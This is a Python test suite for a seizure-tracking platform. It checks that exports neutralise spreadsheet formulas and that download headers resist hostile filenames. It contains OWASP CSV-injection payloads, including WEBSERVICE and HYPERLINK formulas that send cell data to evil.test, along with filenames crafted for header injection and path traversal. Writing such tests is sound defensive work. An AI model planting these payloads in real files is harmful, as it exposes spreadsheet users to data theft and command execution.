"""Safe files out: text typed by users is never a formula in an export, never breaks a workbook, and a file's name
can neither break nor extend the download header; attachments are named and served by the type of their bytes."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date
from urllib.parse import unquote

import openpyxl
import pytest
from sqlalchemy import update

from opsplatform.documents.cells import exported_cell, sheet_row
from opsplatform.models.seizures import Seizure
from opsplatform.rendering.filenames import MAX_BYTES, download_headers
from tests.conftest import csrf_of, login
from tests.results_support import IVORY, active_operation, bearer
from tests.test_cases_messages import attached
from tests.test_imports import ROWS, semicolon_csv

BASE = "/operations/THUNDER-2026"
SEIZURES = f"/api/v1{BASE}/seizures"
MESSAGES = f"/api/v1{BASE}/messages"
ANNUAL_REPORT = "/api/v1/reports/annual-illegal-trade"
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
# What a spreadsheet program would run: OWASP's examples of CSV injection, one per starting character.
FORMULA_NOTES = ("=HYPERLINK(\"https://evil.test/?\"&A1,\"Open\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                 "@SUM(1+1)*cmd|' /C calc'!A0")
WEBSERVICE = '=WEBSERVICE("https://evil.test/?"&B2)'
HOSTILE_NAMES = {
    "quotes": 'tusks "final".pdf',
    "semicolon": "tusks; filename=evil.html.pdf",
    "crlf": "tusks\r\nSet-Cookie: session=stolen.pdf",
    "path": "../../etc/passwd",
    "long": "t" * 300 + ".pdf",
    "emoji": "🐘 tusks 🦏.pdf",
    "right-to-left override": "invoice\u202efdp.exe",
    "injected parameter": "a.csv\"; filename*=UTF-8''evil.html; x=\"",
}


# --- reading what was served ------------------------------------------------------------------------------------

TOKEN = r"[!#$%&'*+.^_`|~0-9A-Za-z-]+"
PARAMETER = re.compile(rf'\s*;\s*({TOKEN})\s*=\s*({TOKEN}|"(?:[^"\\]|\\.)*")')


def disposition(header: str) -> tuple[str, dict[str, str]]:
    """The type and parameters of a Content-Disposition header, read as RFC 6266 says; fails on anything else."""
    found = re.match(rf"\s*({TOKEN})", header)
    assert found, header
    kind, position, parameters = found.group(1).lower(), found.end(), {}
    while position < len(header.rstrip()):
        found = PARAMETER.match(header, position)
        assert found, f"unreadable Content-Disposition from {header[position:]!r}"
        name, value = found.group(1).lower(), found.group(2)
        assert name not in parameters, f"{name} given twice in {header!r}"
        parameters[name] = re.sub(r"\\(.)", r"\1", value[1:-1]) if value.startswith('"') else value
        position = found.end()
    return kind, parameters


def saved_name(header: str) -> str:
    """The name a browser saves the file under: `filename*` when given (RFC 6266), else `filename`."""
    _kind, parameters = disposition(header)
    assert set(parameters) <= {"filename", "filename*"}, f"unexpected parameters in {header!r}"
    if "filename*" in parameters:
        charset, _language, encoded = parameters["filename*"].split("'", 2)
        assert charset.upper() == "UTF-8"
        return unquote(encoded, errors="strict")
    return parameters["filename"]


def workbook_cells(content: bytes) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def column(content: bytes, heading: str, sheet: str | None = None) -> list:
    """The cells under `heading` in the workbook's sheet (the first one if not named)."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    header, *rows = (book[sheet] if sheet else book.worksheets[0]).iter_rows()
    index = [cell.value for cell in header].index(heading)
    return [row[index] for row in rows]


async def sheet_download(client, name: str) -> str:
    """Upload a seizure sheet under `name`, download it again: the Content-Disposition it comes back with."""
    uploaded = await client.post(f"{BASE}/imports", files={"file": (name, semicolon_csv(ROWS), "text/csv")},
                                 data={"_csrf_token": await csrf_of(client)})
    assert uploaded.status_code in (302, 303), uploaded.text
    got = await client.get(uploaded.headers["location"] + "/file")
    assert got.status_code == 200 and got.content == semicolon_csv(ROWS)
    return got.headers["content-disposition"]


# --- set-up -----------------------------------------------------------------------------------------------------

@pytest.fixture
async def hostile_notes(db, client, cast) -> list[int]:
    """Kenya logs one seizure per note that starts like a formula, and one at a location calling a web service."""
    await active_operation(db)
    headers, ids = await bearer(db, cast.kenya), []
    for n, note in enumerate(FORMULA_NOTES, start=1):
        body = {**IVORY, "seizure_ref": f"KE-{n}", "notes": note, "location": WEBSERVICE if n == 1 else "JKIA"}
        response = await client.post(SEIZURES, json=body, headers=headers)
        assert response.status_code == 201, response.text
        ids.append(response.json()["id"])
    return ids


# --- exported cells ---------------------------------------------------------------------------------------------

async def test_a_note_starting_like_a_formula_is_text_in_the_csv_export(client, db, cast, hostile_notes):
    await login(client, cast.coordinator)
    response = await client.get(f"{BASE}/export.csv", params={"fields": ["seizure_ref", "notes", "latitude"]})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert {row["notes"] for row in rows} == {"'" + note for note in FORMULA_NOTES}
    assert {row["latitude"] for row in rows} == {"-1.32"}  # a negative number is a number, not a formula


async def test_a_note_starting_with_equals_is_a_text_cell_in_the_xlsx_export(client, db, cast, hostile_notes):
    await login(client, cast.coordinator)
    response = await client.get(f"{BASE}/export.xlsx")
    assert response.status_code == 200
    assert [cell for cell in workbook_cells(response.content) if cell.data_type == "f"] == []
    notes = column(response.content, "notes")
    assert {(cell.value, cell.data_type) for cell in notes} == {("'" + note, "s") for note in FORMULA_NOTES}
    assert {(cell.value, cell.data_type) for cell in column(response.content, "latitude")} == {(-1.32, "n")}


async def test_a_location_calling_a_web_service_is_text_in_the_annual_report(client, db, cast, hostile_notes):
    response = await client.get(ANNUAL_REPORT, params={"country": "KEN", "year": "2026"},
                                headers=await bearer(db, cast.kenya))
    assert response.status_code == 200, response.text
    assert [cell for cell in workbook_cells(response.content) if cell.data_type == "f"] == []
    locations = {cell.value for cell in column(response.content, "Location of incident", "Seizures")}
    assert f"'{WEBSERVICE}, Airport" in locations  # the place type in words


async def test_a_vertical_tab_in_a_note_does_not_break_the_workbooks(client, db, cast, hostile_notes):
    # Stored directly: records kept before any check of the input must export all the same.
    await db.execute(update(Seizure).where(Seizure.id == hostile_notes[0]).values(notes="Tusks\u000bin\u001f sacks"))
    await db.commit()
    await login(client, cast.coordinator)
    export = await client.get(f"{BASE}/export.xlsx")
    assert export.status_code == 200
    assert "Tusksin sacks" in {cell.value for cell in column(export.content, "notes")}
    report = await client.get(ANNUAL_REPORT, params={"country": "KEN", "year": "2026"},
                              headers=await bearer(db, cast.kenya))
    assert report.status_code == 200
    extra = " ".join(str(c.value) for c in column(report.content, "Additional information", "Seizures"))
    assert "Tusksin sacks" in extra


async def test_geojson_properties_are_neutralised_too(client, db, cast, hostile_notes):
    await login(client, cast.coordinator)
    features = json.loads((await client.get(f"{BASE}/export.geojson")).content)["features"]
    assert {f["properties"]["notes"] for f in features} == {"'" + note for note in FORMULA_NOTES}
    assert {f["properties"]["latitude"] for f in features} == {-1.32}


@pytest.mark.parametrize("value, exported", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("\u000b=1+1", "'=1+1"), ("a\u0000b\u001fc", "abc"), ("line\nbreak\ttab", "line\nbreak\ttab"),
    ("a=b", "a=b"), ("'=1", "'=1"), (-3, -3), (-1.5, -1.5), (None, None), (date(2026, 10, 3), date(2026, 10, 3)),
])
def test_an_exported_cell_is_neutralised_only_when_it_is_text(value, exported):
    assert exported_cell(value) == exported
    assert exported_cell(exported_cell(value)) == exported  # neutralising twice changes nothing


def test_a_sheet_row_is_never_a_formula():
    sheet = openpyxl.Workbook().active
    sheet.append(sheet_row(sheet, ["=SUM(A2:A9)", -3, "text"]))
    assert [(c.value, c.data_type) for c in sheet[1]] == [("'=SUM(A2:A9)", "s"), (-3, "n"), ("text", "s")]


# --- download headers -------------------------------------------------------------------------------------------

async def test_attachments_with_non_latin_names_download_under_their_names(client, db, cast):
    await active_operation(db)
    files = {"照片.gif": (GIF, "download.gif"), "Rapport Việt Nam.pdf": (PDF, "Rapport Viet Nam.pdf")}
    posted = await client.post(MESSAGES, headers=await bearer(db, cast.kenya), json={
        "kind": "alert", "subject": "Scans", "body": "See attached.",
        "attachments": [attached(name, content) for name, (content, _ascii) in files.items()]})
    assert posted.status_code == 201, posted.text
    reader = await bearer(db, cast.tanzania)
    for file in posted.json()["attachments"]:
        content, ascii_name = files[file["filename"]]
        got = await client.get(file["url"], headers=reader)
        assert got.status_code == 200 and got.content == content
        assert saved_name(got.headers["content-disposition"]) == file["filename"]
        assert disposition(got.headers["content-disposition"])[1]["filename"] == ascii_name  # for older clients


async def test_a_sheet_name_cannot_add_parameters_to_the_download_header(client, db, cast):
    await active_operation(db)
    await login(client, cast.kenya)
    injected = saved_name(await sheet_download(client, HOSTILE_NAMES["injected parameter"]))
    assert injected.startswith("a.csv") and not set(injected) & set('";'), injected  # one name, its text harmless
    assert saved_name(await sheet_download(client, "Rapport Việt Nam.csv")) == "Rapport Việt Nam.csv"


async def test_an_attachment_is_named_and_served_by_the_type_of_its_bytes(client, db, cast):
    await active_operation(db)
    posted = await client.post(MESSAGES, headers=await bearer(db, cast.kenya), json={
        "kind": "alert", "subject": "Concealment", "body": "Photo and scan.",
        "attachments": [attached("poly.html", GIF), attached("scan.html", PDF),
                        attached("photo.JPEG", b"\xff\xd8\xff\xe0")]})
    assert posted.status_code == 201, posted.text
    files = {f["filename"]: f for f in posted.json()["attachments"]}
    assert set(files) == {"poly.gif", "scan.pdf", "photo.JPEG"}  # a right extension is kept as it was
    reader = await bearer(db, cast.tanzania)
    for name, shown in (("poly.gif", "inline"), ("scan.pdf", "attachment"), ("photo.JPEG", "inline")):
        got = await client.get(files[name]["url"], headers=reader)
        assert got.status_code == 200
        assert disposition(got.headers["content-disposition"])[0] == shown
        assert saved_name(got.headers["content-disposition"]) == name
        assert got.headers["x-content-type-options"] == "nosniff"
        assert got.headers["cache-control"] == "private, no-store"


@pytest.mark.parametrize("name", HOSTILE_NAMES.values(), ids=HOSTILE_NAMES.keys())
@pytest.mark.parametrize("inline", [False, True])
def test_a_hostile_name_stays_one_harmless_parameter(name, inline):
    header = download_headers(name, inline=inline)["content-disposition"]
    assert header.isascii() and "\r" not in header and "\n" not in header
    kind, parameters = disposition(header)
    assert kind == ("inline" if inline else "attachment")
    for saved in (saved_name(header), parameters["filename"]):
        assert not set(saved) & set('";/\\\r\n\u202e'), saved
        assert 0 < len(saved.encode()) <= MAX_BYTES and not saved.startswith(".")


@pytest.mark.parametrize("name, saved, fallback", [
    ("照片.gif", "照片.gif", "download.gif"),
    ("Rapport Việt Nam.pdf", "Rapport Việt Nam.pdf", "Rapport Viet Nam.pdf"),
    ("🐘 tusks 🦏.pdf", "🐘 tusks 🦏.pdf", "_ tusks _.pdf"),
    ("invoice\u202efdp.exe", "invoicefdp.exe", "invoicefdp.exe"),
    ("../../etc/passwd", "_.._etc_passwd", "_.._etc_passwd"),
    ("tusks\r\nSet-Cookie: x.pdf", "tusks Set-Cookie_ x.pdf", "tusks Set-Cookie_ x.pdf"),
    ("t" * 300 + ".pdf", "t" * (MAX_BYTES - 4) + ".pdf", "t" * (MAX_BYTES - 4) + ".pdf"),
    ("", "download", "download"),
    (".htaccess", "download.htaccess", "download.htaccess"),
])
def test_a_name_round_trips_as_far_as_it_is_safe(name, saved, fallback):
    header = download_headers(name)["content-disposition"]
    assert saved_name(header) == saved
    assert disposition(header)[1]["filename"] == fallback
